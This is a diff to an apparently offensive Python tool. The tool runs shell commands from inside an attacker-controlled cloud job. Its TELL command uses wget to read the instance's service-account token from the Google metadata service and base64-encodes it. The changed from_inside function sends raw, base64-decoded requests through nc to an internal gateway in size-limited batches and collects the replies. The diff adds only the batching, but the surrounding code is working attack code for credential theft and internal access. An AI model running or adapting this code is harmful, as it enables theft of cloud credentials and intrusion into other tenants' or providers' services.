@@ -15,6 +15,7 @@ OWN_TOKEN = "/computeMetadata/v1/instance/service-accounts/default/token"
 TELL = (f"wget -q -O - --header 'Metadata-Flavor: Google' http://$GCE_METADATA_HOST{OWN_TOKEN} | base64 | tr -d '\\n'; echo; "
         f"hostname; echo $STORAGE_EMULATOR_HOST")
 AT_ONCE = 40  # a gateway takes 64 connections
+BATCH_BYTES = 100 << 10
 
 
 class Teller:
@@ -52,18 +53,30 @@ def sh(attacker, text):
     return (said if isinstance(said, bytes) else json.dumps(said).encode() if said else b"").decode().replace("\r\n", "\n")
 
 
+def _batches(requests):
+    """Lists of (name, request in base64); a shell's command has 128 KiB."""
+    batch, size = [], 0
+    for name, data in requests.items():
+        word = base64.b64encode(data).decode()
+        if batch and (len(batch) == AT_ONCE or size + len(word) > BATCH_BYTES):
+            yield batch
+            batch, size = [], 0
+        batch, size = batch + [(name, word)], size + len(word)
+    if batch:
+        yield batch
+
+
 def from_inside(attacker, requests, port="${G##*:}", wait=30):
     """{name: what the gateway of the attacker's own job answers to these bytes}; each has a connection of its own, and
     `wait` seconds for an end of it."""
-    found, names = {}, list(requests)
-    for start in range(0, len(names), AT_ONCE):
-        part = names[start:start + AT_ONCE]
-        words = "".join(f"ask {i} {base64.b64encode(requests[name]).decode()} & " for i, name in enumerate(part))
+    found = {}
+    for batch in _batches(requests):
+        words = "".join(f"ask {i} {word} & " for i, (_, word) in enumerate(batch))
         text = (f"G=${{STORAGE_EMULATOR_HOST#http://}}; H=${{G%:*}}; P={port}; cd /tmp 2>/dev/null || cd /; "
                 'ask() { echo "$2" | base64 -d | nc -w ' + f'{wait} $H $P | base64 | tr -d "\\n" >a$1; }}; ' + words +
-                f'wait; i=0; while [ $i -lt {len(part)} ]; do echo "$i $(cat a$i)"; i=$((i+1)); done')
+                f'wait; i=0; while [ $i -lt {len(batch)} ]; do echo "$i $(cat a$i)"; i=$((i+1)); done')
         said = dict((line.split(" ") + [""])[:2] for line in sh(attacker, text).splitlines() if line)
-        found |= {name: base64.b64decode(said[str(i)]) for i, name in enumerate(part)}
+        found |= {name: base64.b64decode(said[str(i)]) for i, (name, _) in enumerate(batch)}
     return found
 
 
